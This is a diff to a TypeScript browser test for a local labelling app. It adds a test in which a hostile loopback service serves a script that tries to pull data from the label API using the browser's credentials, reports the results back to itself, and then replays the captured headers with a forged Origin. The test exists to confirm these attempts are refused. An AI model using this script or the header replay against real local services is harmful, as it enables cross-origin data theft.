@@ -5,10 +5,13 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { existsSync } from 'node:fs';
+import { readFile } from 'node:fs/promises';
+import { createServer, type IncomingMessage } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { Workspace } from '../../src/annotate/workspace.js';
 import { startLabelServer } from '../../src/annotate/server.js';
 import { readPageLabels } from '../../src/corpus/pith-format.js';
-import { tempCorpus } from './helpers.js';
+import { http, tempCorpus } from './helpers.js';
 
 const CHROMIUM = process.env['PITH_CHROMIUM'] ?? '/usr/bin/chromium';
 const ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'];
@@ -129,7 +132,11 @@ test('label in the browser: mouse, keys, undo/redo, subtree, save, reload, expor
 
     step('Export from this session, import into a ');
     // Export from this session, import into a fresh corpus through the app's file input.
-    const bundle = await page.evaluate(() => fetch('/api/export').then((r) => r.text()));
+    // The export button downloads the bundle (fetched with the session header, saved from a blob).
+    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export')]);
+    assert.equal(download.suggestedFilename(), 'test.pith-bundle.json');
+    const bundle = await readFile((await download.path())!, 'utf8');
+    assert.equal(JSON.parse(bundle).pages.length, 2);
     const c2 = await tempCorpus([]);
     const srv2 = await startLabelServer(await Workspace.open(c2.dir));
     try {
@@ -187,6 +194,109 @@ test('a stale save shows a conflict and overwrites nothing', { timeout: 30_000 }
     assert.equal((await readPageLabels(c.dir, 'second'))?.revision, 2);
   } finally {
     await browser.close();
+    await srv.close();
+    await c.cleanup();
+  }
+});
+
+/**
+ * Another service on another loopback port, visited by the same browser: it records every
+ * header the browser sends it (cookies for 127.0.0.1 reach every port) and serves a page
+ * whose script tries the label API with the browser's credentials.
+ */
+async function hostileService(apiOrigin: string): Promise<{ url: string; seen: IncomingMessage['headers'][]; report: Promise<Record<string, string>>; close: () => Promise<void> }> {
+  const seen: IncomingMessage['headers'][] = [];
+  let gotReport!: (r: Record<string, string>) => void;
+  const report = new Promise<Record<string, string>>((res) => (gotReport = res));
+  const script = `
+    const api = ${JSON.stringify(apiOrigin)};
+    const out = {};
+    const attempt = async (name, f) => { try { out[name] = await f(); } catch (e) { out[name] = 'refused: ' + e.name; } };
+    (async () => {
+      await attempt('queue', () => fetch(api + '/api/queue', { credentials: 'include' }).then((r) => r.status + ' ' + r.text()));
+      await attempt('queue-with-header', () => fetch(api + '/api/queue', { credentials: 'include', headers: { 'x-pith-token': 'guess' } }).then((r) => r.text()));
+      await attempt('export-no-cors', () => fetch(api + '/api/export', { credentials: 'include', mode: 'no-cors' }).then((r) => r.type + ' ' + r.status));
+      await attempt('import-no-cors', () => fetch(api + '/api/import', { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}' }).then((r) => r.type));
+      await attempt('app-page', () => fetch(api + '/', { credentials: 'include' }).then((r) => r.text()));
+      await fetch('/report', { method: 'POST', body: JSON.stringify(out) });
+    })();`;
+  const server = createServer((req, res) => {
+    seen.push(req.headers);
+    if (req.method === 'POST' && req.url === '/report') {
+      let body = '';
+      req.on('data', (d: Buffer) => (body += d.toString('utf8')));
+      req.on('end', () => {
+        gotReport(JSON.parse(body) as Record<string, string>);
+        res.end('ok');
+      });
+      return;
+    }
+    res.writeHead(200, { 'content-type': 'text/html' });
+    res.end(`<!DOCTYPE html><title>some local dev server</title><script>${script}</script>`);
+  });
+  await new Promise<void>((res) => server.listen(0, '127.0.0.1', () => res()));
+  const port = (server.address() as AddressInfo).port;
+  return {
+    url: `http://127.0.0.1:${port}/`, seen, report,
+    close: () => new Promise<void>((res) => {
+      server.closeAllConnections();
+      server.close(() => res());
+    }),
+  };
+}
+
+test('a page on another loopback port gets neither the token nor the API, even with the browser\'s cookies; the app still works', { timeout: 60_000 }, async (t) => {
+  const pw = await playwright();
+  if (!pw || !existsSync(CHROMIUM)) {
+    t.skip('no Chromium or playwright-core');
+    return;
+  }
+  const c = await tempCorpus(['second.html']);
+  const srv = await startLabelServer(await Workspace.open(c.dir));
+  const evil = await hostileService(srv.origin);
+  const browser = await pw.chromium.launch({ executablePath: CHROMIUM, args: ARGS });
+  try {
+    const context = await browser.newContext();
+    const app = await context.newPage();
+    await app.goto(srv.url);
+    await app.waitForSelector('body[data-ready="second"]');
+    assert.equal(new URL(app.url()).search, '', 'the token left the address bar');
+    assert.deepEqual(await context.cookies(), [], 'the app sets no cookie');
+
+    step('the same browser visits the other service');
+    const other = await context.newPage();
+    await other.goto(evil.url);
+    const got = await evil.report;
+    const leaked = JSON.stringify(got);
+    assert.doesNotMatch(leaked, /second|headline|pith-corpus-bundle/i, leaked);
+    assert.doesNotMatch(leaked, new RegExp(srv.token));
+    assert.match(got['queue'] ?? '', /^refused/);
+    assert.match(got['queue-with-header'] ?? '', /^refused/);
+
+    step('whatever the browser sent it, replayed with a forged Host and Origin, opens nothing');
+    assert.ok(evil.seen.length >= 2);
+    for (const headers of evil.seen) {
+      assert.doesNotMatch(JSON.stringify(headers), new RegExp(srv.token), 'the token never reaches another port');
+      const replay: Record<string, string> = { origin: srv.origin, 'sec-fetch-site': 'same-origin', 'content-type': 'application/json' };
+      if (headers.cookie) replay['cookie'] = headers.cookie;
+      for (const [method, path] of [['GET', '/api/queue'], ['GET', '/api/export'], ['GET', '/api/pages/second'], ['POST', '/api/retrain']] as const) {
+        const r = await http(srv.port, method, path, replay, method === 'POST' ? '{}' : undefined);
+        assert.equal(r.status, 403, `${method} ${path} with ${JSON.stringify(replay)}`);
+      }
+    }
+
+    step('the real app still labels and saves, also after a reload');
+    await app.bringToFront();
+    await app.reload();
+    await app.waitForSelector('body[data-ready="second"]');
+    await app.frameLocator('#frame').locator('h1').click();
+    await app.keyboard.press('t');
+    await app.keyboard.press('s');
+    await app.waitForFunction(() => (window as any).pithApp.snapshot().state === 'saved');
+    assert.equal((await readPageLabels(c.dir, 'second'))?.revision, 1);
+  } finally {
+    await browser.close();
+    await evil.close();
     await srv.close();
     await c.cleanup();
   }
